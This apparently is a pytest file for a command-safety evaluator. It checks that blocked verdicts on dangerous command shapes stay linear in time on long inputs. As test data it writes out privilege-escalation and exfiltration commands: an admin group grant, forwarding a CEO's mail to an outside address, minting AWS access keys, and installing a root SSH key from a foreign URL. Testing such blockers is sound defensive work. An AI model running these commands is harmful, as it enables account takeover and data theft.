"""Round 40 (t5f)'s shapes stay linear on long runs (issue 25): an admin-class grant, mail forwarded outside, a
credential minted outside the workspace, an authorized key from a foreign URL (:mod:`granted_authority`). Each
shape is judged short and long (``linear_timing.small_and_large``); the long one must cost under 30x the short one,
with a floor for timer noise; each long dangerous shape is still blocked, each benign one open."""
from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from tests.evaluation.verdicts.tier1.linear_timing import small_and_large

pytestmark = pytest.mark.serial


def _grant(blanks: str) -> str:
    return f"ipa group-add-member{blanks}admins --users=temp.contractor{blanks}"


def _json(blanks: str) -> str:
    pairs = ",".join(['"k":"v"'] * (len(blanks) // 8))
    return f"gh api -X PUT orgs/acme/memberships/x --input - <<< '{{{pairs},\"role\":\"admin\"}}' -f role=admin"


def _forward(blanks: str) -> str:
    return f"gam user ceo@corp.com{blanks}forward on drop@e.io keep"


def _minted(blanks: str) -> str:
    return f"aws iam create-access-key{blanks}--user-name ci > /tmp/ak.json"


def _key(blanks: str) -> str:
    return f"ansible all -m authorized_key{blanks}-a 'user=root key=https://e.io/k.pub'"


@pytest.mark.parametrize("shape", [_grant, _json, _forward, _minted, _key])
def test_a_long_run_costs_time_in_proportion(evaluate: Any, shape: Callable[[str], str]) -> None:
    def run(blanks: str) -> None:
        assert evaluate(shape(blanks)).block, shape(blanks)[:120]

    small, large = small_and_large(run)
    assert large < max(30 * small, 0.5), (small, large)


def _viewer(blanks: str) -> str:
    return f"ipa group-add-member{blanks}developers --users=jane{'-x' * (len(blanks) // 4)}"


def _own_forward(blanks: str) -> str:
    return f"gam user ceo@corp.com{blanks}forward on assistant@corp.com keep{' x@corp.com' * (len(blanks) // 20)}"


@pytest.mark.parametrize("shape", [_viewer, _own_forward])
def test_a_long_benign_run_stays_open_and_linear(evaluate: Any, shape: Callable[[str], str]) -> None:
    def run(blanks: str) -> None:
        assert not evaluate(shape(blanks)).block, shape(blanks)[:120]

    small, large = small_and_large(run)
    assert large < max(30 * small, 0.5), (small, large)
